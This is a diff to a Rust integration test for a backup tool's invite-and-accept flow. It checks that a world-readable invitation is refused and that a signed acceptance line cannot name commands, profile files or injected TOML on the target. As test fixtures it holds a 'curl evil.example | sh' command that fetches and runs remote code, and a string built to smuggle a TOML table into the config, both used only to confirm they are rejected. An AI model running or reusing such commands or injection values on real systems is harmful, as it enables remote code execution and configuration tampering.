@@ -7,6 +7,8 @@ use std::{
     process::{Child, Command, Stdio},
 };
 
+use assay_common::{cli::join::Acceptance, signing::SigningKey};
+
 use crate::pair::{Done, done, eventually, free_port, program};
 
 /// Two hosts that have nothing but the programs, and a git repository on one of them.
@@ -91,15 +93,35 @@ fn from_nothing_to_a_first_verified_backup() {
     hosts.good("target", &["invite", "db1"]);
     let invitation = hosts.path("assay-invite-db1.json");
     assert_eq!(mode(&invitation), 0o600);
-    assert!(fs::read_dir(hosts.path("target/ca")).expect("list").count() == 2, "keys stay in the invitation only");
+    assert!(
+        fs::read_dir(hosts.path("target/ca")).expect("list").count() == 2,
+        "keys stay in the invitation only"
+    );
 
     let (file, live) = (invitation.to_str().expect("utf-8").to_owned(), hosts.path("live.git"));
     let (live, state) = (live.to_str().expect("utf-8").to_owned(), hosts.path("state"));
+    let answer = hosts.path("answer").to_str().expect("utf-8").to_owned();
     let source_listen = format!("127.0.0.1:{}", free_port());
     let join = [
-        "init", "--join", &file, "--state", state.to_str().expect("utf-8"), "--listen", &source_listen,
-        "--repository", "code", &live,
+        "init",
+        "--join",
+        &file,
+        "--state",
+        state.to_str().expect("utf-8"),
+        "--listen",
+        &source_listen,
+        "--repository",
+        "code",
+        "--answer",
+        &answer,
+        &live,
     ];
+    // Others could have read the keys in it: it is not taken.
+    fs::set_permissions(&invitation, fs::Permissions::from_mode(0o644)).expect("chmod");
+    let exposed = hosts.run("source", &join);
+    assert!(exposed.code == 2 && exposed.stderr.contains("HINT:"), "{exposed:?}");
+    assert!(!hosts.path("source").join("pki").exists());
+    fs::set_permissions(&invitation, fs::Permissions::from_mode(0o600)).expect("chmod");
     let printed = hosts.good("source", &join);
     assert!(printed.contains("found git in"), "{printed}");
     let line = printed.lines().find_map(|line| line.strip_prefix("assay-target accept ")).expect("a line");
@@ -108,7 +130,7 @@ fn from_nothing_to_a_first_verified_backup() {
 
     let cut = hosts.run("target", &["accept", &line[..line.len() - 9]]);
     assert!(cut.code == 2 && cut.stderr.contains("HINT:"), "{cut:?}");
-    hosts.good("target", &["accept", line]);
+    hosts.good("target", &["accept", "--file", &answer]);
     // Twice the same name is no configuration, and the one that is there stays.
     let twice = hosts.run("target", &["accept", line]);
     assert!(twice.code == 2 && twice.stderr.contains("stands twice"), "{twice:?}");
@@ -121,10 +143,52 @@ fn from_nothing_to_a_first_verified_backup() {
     // Who operates the source does not operate the target.
     let pki = hosts.path("source/pki");
     let file = |name: &str| pki.join(name).to_str().expect("utf-8").to_owned();
-    let refused = hosts.run(
-        "target",
-        &["status", "--cert", &file("operator.crt"), "--key", &file("operator.key")],
-    );
-    assert!(refused.code == 4 && refused.stderr.contains("does not operate this target"), "{refused:?}");
+    let refused =
+        hosts.run("target", &["status", "--cert", &file("operator.crt"), "--key", &file("operator.key")]);
+    assert!(refused.code == 4 && refused.stderr.contains("does not operate this agent"), "{refused:?}");
     assert!(hosts.good("target", &["status"]).contains("proven good"));
+}
+
+/// A source that was taken over sends a line of its own: it pins a key and adds a repository, and no more than that.
+#[test]
+fn an_acceptance_names_no_command_and_no_file_of_the_target() {
+    let hosts = Hosts::new();
+    let store = hosts.path("store");
+    let store = store.to_str().expect("utf-8");
+    hosts.good("target", &["init", "--host", "127.0.0.1", "--listen", "127.0.0.1:1", "--store", store]);
+    let config = hosts.path("target/target.toml");
+    fs::set_permissions(&config, fs::Permissions::from_mode(0o640)).expect("chmod");
+    let before = fs::read(&config).expect("read");
+    let line = |profile: &str, vars: &[(&str, &[&str])]| {
+        let vars = vars.iter().map(|(name, words)| ((*name).to_owned(), toml::Value::from(words.to_vec())));
+        let acceptance = Acceptance {
+            source: "db1".to_owned(),
+            source_key: SigningKey::generate().verifying_key().to_pem(),
+            repository: "code".to_owned(),
+            profile: profile.to_owned(),
+            vars: vars.collect(),
+        };
+        acceptance.to_line()
+    };
+    let evil = line("generic", &[("check", &["sh", "-c", "curl evil.example | sh"])]);
+    for (line, word) in [
+        (&line("/tmp/evil.toml", &[]), "--profile"),
+        (&evil, "--allow-commands"),
+        (&line("postgresql", &[("programs", &["/tmp/bin"])]), "--allow-commands"),
+    ] {
+        let refused = hosts.run("target", &["accept", line]);
+        assert!(refused.code == 2 && refused.stderr.contains(word), "{refused:?}");
+        assert!(!hosts.path("target/pki/db1-signing.pub").exists());
+        assert_eq!(fs::read(&config).expect("read"), before);
+    }
+    // Text that would be TOML stays text.
+    let quoted = line("sqlite", &[("databases", &["a\"]\n[agent]\nname = \"b"])]);
+    hosts.good("target", &["accept", &quoted]);
+    let text = fs::read_to_string(&config).expect("read");
+    let table: toml::Table = text.parse().expect("TOML");
+    assert_eq!(table["agent"]["name"].as_str(), Some("target"), "{text}");
+    assert_eq!(mode(&config), 0o640, "the file's mode stays");
+    // Another key under the same name is not taken.
+    let other = hosts.run("target", &["accept", &evil, "--allow-commands"]);
+    assert!(other.code == 2 && other.stderr.contains("pins another key of db1"), "{other:?}");
 }
